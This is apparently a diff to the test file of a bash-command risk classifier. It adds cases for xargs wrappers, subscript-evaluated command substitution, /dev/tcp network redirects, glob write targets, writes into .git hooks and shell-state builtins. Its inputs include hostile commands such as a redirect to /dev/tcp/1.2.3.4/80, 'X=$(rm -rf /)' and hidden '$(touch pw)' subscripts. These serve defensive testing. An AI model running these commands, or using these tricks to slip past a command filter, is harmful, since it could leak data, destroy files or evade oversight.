@@ -288,7 +288,7 @@ describe('high: bad input', () => {
     ['ls !(x)', 'high', false, 'the parser could not fully read it'],
     ['ag --pager=sh x', 'high', false, 'ag --pager'],
     ['rg --hostname-bin=./x --hyperlink-format=default foo', 'high', false, 'rg --hostname-bin'],
-    ['ls > /dev/tcp/1.2.3.4/80', 'high', false, 'outside the roots'],
+    ['ls > /dev/tcp/1.2.3.4/80', 'high', false, "network through bash's /dev/tcp"],
     ['X=$(rm -rf /)', 'high', false, 'command substitution $(…)'],
     ['echo ${x:-$(id)}', 'high', false, 'command substitution $(…)'],
     ['cat <<< $(id)', 'high', false, 'command substitution $(…)'],
@@ -297,6 +297,124 @@ describe('high: bad input', () => {
     ['git worktree add /tmp/x', 'high', false, 'not a subcommand this check knows'],
     ['command -pv ls', 'high', false, 'an option this check does not know'],
     ['exec -a name ls', 'high', false, 'an option this check does not know'],
+  ]);
+});
+
+describe('xargs feeding a wrapper without a command: the input is the command', () => {
+  check([
+    ['echo touch pw | xargs env', 'high', false, "env gets its command from xargs's input"],
+    ['echo touch pw | xargs xargs', 'high', false, "xargs gets its command from xargs's input"],
+    ['echo touch pw | xargs nice', 'high', false, "nice gets its command from xargs's input"],
+    ['echo touch pw | xargs nice -n 5', 'high', false, "nice gets its command from xargs's input"],
+    ['echo touch pw | xargs timeout 5', 'high', false, "timeout gets its command from xargs's input"],
+    ['echo touch pw | xargs command', 'high', false, "command gets its command from xargs's input"],
+    ['echo touch pw | xargs stdbuf -o0', 'high', false, "stdbuf gets its command from xargs's input"],
+    ['echo touch pw | xargs time', 'high', false, "time gets its command from xargs's input"],
+    ['echo touch pw | xargs -0 exec', 'high', false, "exec gets its command from xargs's input"],
+    ['ls | xargs', 'low', true, 'echo only reads'],
+    ['ls | xargs nice grep x', 'low', true, 'grep only reads'],
+  ]);
+});
+
+describe('strings bash evaluates as arithmetic or a variable name run the $(…) in their subscripts', () => {
+  check([
+    ["[[ 'a[$(touch pw)]' -eq 1 ]]", 'high', false, '[[ -eq ]] evaluates'],
+    ['[[ $x -lt 3 ]]', 'high', false, '[[ -lt ]] evaluates `$x` as arithmetic'],
+    ['[[ "1" -ge 1 ]]', 'high', false, 'only plain integers are read here'],
+    ['[[ 1 -eq 2 ]] && ls', 'low', true, 'a test only compares'],
+    ['[[ $x == 1 ]]', 'low', true, 'a test only compares'],
+    ["test -v 'a[$(touch pw)]'", 'high', false, 'test -v evaluates the subscript'],
+    ["test -R 'a[$(touch pw)]'", 'high', false, 'test -R evaluates the subscript'],
+    ["[ -v 'a[$(touch pw)]' ]", 'high', false, '-v evaluates the subscript'],
+    ["[[ -v 'a[$(touch pw)]' ]]", 'high', false, '-v evaluates the subscript'],
+    ['[ * ]', 'high', false, 'may expand to -v'],
+    ['test *', 'high', false, 'may expand to -v'],
+    ["[ 'a[$(touch pw)]' -eq 1 ]", 'low', true, 'a test only compares'],
+    ["echo 'x'; echo ${!_}", 'high', false, 'is an indirect expansion'],
+    ['echo ${!name}', 'high', false, 'is an indirect expansion'],
+    ["echo '$(touch pw)'; echo ${_@P}", 'high', false, '`${_@P}` makes bash evaluate the value'],
+    ['echo ${PWD@P}', 'high', false, '`${PWD@P}` makes bash evaluate the value'],
+    ['echo ${x@E}', 'high', false, '`${x@E}` makes bash evaluate the value'],
+    ['echo ${x@A}', 'high', false, '`${x@A}` makes bash evaluate the value'],
+    ['echo ${x@Q}', 'low', true, 'echo only reads'],
+    ['echo $_', 'high', false, '`$_` repeats an argument of the previous command'],
+    ['echo "${_}"', 'high', false, '`$_` repeats an argument of the previous command'],
+    ['echo ${a[i]}', 'high', false, 'the array subscript `a[i]` is evaluated as arithmetic'],
+    ['echo ${a[1]} ${a[@]}', 'low', true, 'echo only reads'],
+    ['echo ${PWD:0:$x}', 'high', false, 'substring bounds in `${PWD:0:$x}` are evaluated as arithmetic'],
+    ['echo ${x:1:2} ${x: -1} ${x:-default}', 'low', true, 'echo only reads'],
+    ['echo $(( x + 1 ))', 'high', false, 'arithmetic expansion'],
+    ['let x=1', 'high', false, 'let is not a known'],
+    ['declare -i x=1', 'high', false, 'changes shell variables'],
+    ['local -i x=1', 'high', false, 'changes shell variables'],
+    ['typeset -i x=1', 'high', false, 'changes shell variables'],
+    ['printf -v x %s y', 'high', false, 'printf -v'],
+  ]);
+});
+
+describe('substitutions the grammar reads as plain text', () => {
+  check([
+    ['echo ${x:-`id`}', 'high', false, 'holds a substitution the parser does not show'],
+    ['echo "${x:-`id`}"', 'high', false, 'holds a substitution the parser does not show'],
+    ["echo '`id`' \\`id\\` \"\\$(id)\"", 'low', true, 'echo only reads'],
+  ]);
+});
+
+describe('glob and expansion write targets may match a symbolic link out of the roots', () => {
+  check([
+    ['echo X > ln*', 'high', false, 'redirect target: `ln*` is a glob and may match a symbolic link'],
+    ['echo X | tee -a ln?', 'high', false, 'tee: `ln?` is a glob and may match a symbolic link'],
+    ['touch src/*.ts', 'high', false, 'touch: `src/*.ts` is a glob'],
+    ['cp a.ts ln*', 'high', false, 'cp: `ln*` is a glob'],
+    ['cp -t ln* a.ts', 'high', false, 'cp: `ln*` is a glob'],
+    ['echo X > $OUT', 'high', false, 'redirect target: `$OUT` is only known when the command runs'],
+    ['cp src/*.ts build/', 'medium', false, 'cp writes inside the roots'],
+    ['mv *.txt src/', 'medium', false, 'mv writes inside the roots'],
+    ['rm src/*.o', 'medium', false, 'rm writes inside the roots'],
+  ]);
+});
+
+describe("network through bash's /dev/tcp and /dev/udp", () => {
+  check([
+    ['cat < /dev/tcp/127.0.0.1/80', 'high', false, "network through bash's /dev/tcp"],
+    ['echo hi > /dev/udp/127.0.0.1/53', 'high', false, "network through bash's /dev/tcp"],
+    ['cat < "/dev/tcp/$HOST/80"', 'high', false, "network through bash's /dev/tcp"],
+  ]);
+});
+
+describe('option tables read clusters as the command does', () => {
+  check([
+    ['date -I --set=2020-01-01', 'high', false, 'date --set=2020-01-01: not read-only'],
+    ['date -I -s 2020-01-01', 'high', false, 'date -s: not read-only'],
+    ['date -Iseconds', 'low', true, 'date only reads'],
+    ['tree -Lo 1 out.txt', 'high', false, 'tree -o: not read-only'],
+    ['tree -L 2 -o out.txt', 'high', false, 'tree -o: not read-only'],
+    ['tree -L 2 src', 'low', true, 'tree only reads'],
+  ]);
+});
+
+describe('writes inside .git: hooks and config run programs later', () => {
+  check([
+    ['echo x > .git/hooks/pre-commit', 'high', false, 'writes inside .git'],
+    ['cp hook.sh .git/hooks/pre-commit', 'high', false, 'writes inside .git'],
+    ['tee .git/config < cfg', 'high', false, 'writes inside .git'],
+    ['mv cfg sub/.git/info/attributes', 'high', false, 'writes inside .git'],
+    ['touch .git/x', 'high', false, 'writes inside .git'],
+    ['mkdir -p .git/hooks', 'high', false, 'writes inside .git'],
+    ['rm -rf .git', 'high', false, 'writes inside .git'],
+    ["sed -i 's/a/b/' .git/config", 'high', false, 'writes inside .git'],
+    ['echo x > .gitignore', 'medium', false, 'redirect writes'],
+  ]);
+});
+
+describe('builtins that change how the rest of the line runs', () => {
+  check([
+    ['exec > file', 'high', false, 'exec without a command redirects the shell itself'],
+    ['exec 3> /etc/x', 'high', false, 'exec without a command redirects the shell itself'],
+    ['hash -p /bin/sh ls; ls', 'high', false, 'hash changes the state of the shell'],
+    ['enable -f ./x.so x', 'high', false, 'enable is not a known'],
+    ["trap 'id' DEBUG", 'high', false, 'trap changes the state of the shell'],
+    ['alias ls=id', 'high', false, 'alias changes the state of the shell'],
   ]);
 });
 
